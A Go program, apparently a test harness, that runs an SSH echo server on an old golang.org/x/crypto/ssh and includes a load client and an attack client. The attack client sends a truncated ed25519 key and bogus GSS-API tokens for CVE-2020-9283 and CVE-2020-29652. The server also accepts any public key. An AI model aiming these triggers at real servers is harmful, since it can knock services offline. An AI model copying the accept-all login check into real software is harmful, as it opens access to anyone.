// Command sshd is an SSH server on an old golang.org/x/crypto/ssh, and its clients.
//
//	sshd serve ADDR            answers exec requests with their command
//	sshd load ADDR             for each line on stdin: log in with a key, run a command, check the reply
//	sshd attack NAME ADDR      for each line on stdin: short-key (CVE-2020-9283) or gssapi (CVE-2020-29652)
//
// The clients answer each line with "ok" or what went wrong.
package main

import (
	"bufio"
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"os"
	"time"

	"golang.org/x/crypto/ssh"
)

func main() {
	args := os.Args[1:]
	switch {
	case len(args) == 2 && args[0] == "serve":
		log.Fatal(serve(args[1]))
	case len(args) == 2 && args[0] == "load":
		signer := newSigner()
		eachLine(func(line string) error { return login(args[1], signer, line) })
	case len(args) == 3 && args[0] == "attack":
		eachLine(func(string) error { return attack(args[1], args[2]) })
	default:
		log.Fatal("usage: sshd serve ADDR | load ADDR | attack NAME ADDR")
	}
}

func newSigner() ssh.Signer {
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		log.Fatal(err)
	}
	signer, err := ssh.NewSignerFromKey(key)
	if err != nil {
		log.Fatal(err)
	}
	return signer
}

func serve(addr string) error {
	config := &ssh.ServerConfig{
		PublicKeyCallback: func(_ ssh.ConnMetadata, key ssh.PublicKey) (*ssh.Permissions, error) { return nil, nil },
	}
	config.AddHostKey(newSigner())
	listener, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	for {
		conn, err := listener.Accept()
		if err != nil {
			return err
		}
		go handle(conn, config)
	}
}

func handle(conn net.Conn, config *ssh.ServerConfig) {
	defer conn.Close()
	_, channels, requests, err := ssh.NewServerConn(conn, config)
	if err != nil {
		return
	}
	go ssh.DiscardRequests(requests)
	for offered := range channels {
		channel, requests, err := offered.Accept()
		if err != nil {
			return
		}
		for r := range requests {
			if r.Type != "exec" {
				r.Reply(false, nil)
				continue
			}
			var exec struct{ Command string }
			r.Reply(ssh.Unmarshal(r.Payload, &exec) == nil, nil)
			fmt.Fprintln(channel, exec.Command)
			channel.SendRequest("exit-status", false, ssh.Marshal(struct{ Status uint32 }{0}))
			channel.Close()
		}
	}
}

func eachLine(do func(line string) error) {
	for in := bufio.NewScanner(os.Stdin); in.Scan(); {
		if err := do(in.Text()); err != nil {
			fmt.Printf("%q\n", err)
		} else {
			fmt.Println("ok")
		}
	}
}

func dial(addr string, auth ssh.AuthMethod) (*ssh.Client, error) {
	conn, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return nil, err
	}
	conn.SetDeadline(time.Now().Add(5 * time.Second))
	c, channels, requests, err := ssh.NewClientConn(conn, addr, &ssh.ClientConfig{
		User: "load", Auth: []ssh.AuthMethod{auth}, HostKeyCallback: ssh.InsecureIgnoreHostKey(),
	})
	if err != nil {
		conn.Close()
		return nil, err
	}
	return ssh.NewClient(c, channels, requests), nil
}

func login(addr string, signer ssh.Signer, command string) error {
	client, err := dial(addr, ssh.PublicKeys(signer))
	if err != nil {
		return err
	}
	defer client.Close()
	session, err := client.NewSession()
	if err != nil {
		return err
	}
	got, err := session.Output(command)
	if err == nil && string(got) != command+"\n" {
		err = fmt.Errorf("%s answered %q", command, got)
	}
	return err
}

// attack succeeds when the server answers by ending this connection or refusing
// the login, and still listens.
func attack(name, addr string) error {
	auth := ssh.AuthMethod(ssh.GSSAPIWithMICAuthMethod(token{}, "localhost"))
	if name == "short-key" {
		auth = ssh.PublicKeys(shortKey{})
	}
	client, err := dial(addr, auth)
	if err == nil {
		client.Close()
		return errors.New("the login was accepted")
	}
	conn, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err == nil {
		conn.Close()
	}
	return err
}

// shortKey is an ed25519 key of 31 bytes.
type shortKey struct{}

func (shortKey) PublicKey() ssh.PublicKey { return shortKey{} }
func (shortKey) Type() string             { return ssh.KeyAlgoED25519 }
func (shortKey) Marshal() []byte {
	return ssh.Marshal(struct {
		Name string
		Key  []byte
	}{ssh.KeyAlgoED25519, make([]byte, 31)})
}
func (shortKey) Verify([]byte, *ssh.Signature) error { return nil }
func (shortKey) Sign(io.Reader, []byte) (*ssh.Signature, error) {
	return &ssh.Signature{Format: ssh.KeyAlgoED25519, Blob: make([]byte, ed25519.SignatureSize)}, nil
}

// token is a GSS-API client whose tokens mean nothing.
type token struct{}

func (token) InitSecContext(string, []byte, bool) ([]byte, bool, error) {
	return []byte("x"), true, nil
}
func (token) GetMIC([]byte) ([]byte, error) { return []byte("x"), nil }
func (token) DeleteSecContext() error       { return nil }
